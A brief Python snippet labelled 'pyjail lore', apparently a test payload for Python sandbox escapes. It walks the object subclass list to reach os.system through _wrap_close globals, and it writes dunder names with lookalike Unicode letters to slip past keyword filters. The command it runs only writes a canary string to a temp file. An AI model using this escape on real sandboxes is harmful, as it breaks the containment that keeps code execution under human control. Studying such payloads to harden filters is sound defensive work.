# source: pyjail lore
# effect: process

for kind in ().__ｃlass__.__𝖇ase__.__subｃlasses__():
    if kind.__name__ == "_wrap_close":
        kind.__init__.__gl𝓸bals__["system"]("echo names/nfkc_dunder > /tmp/canary/process")
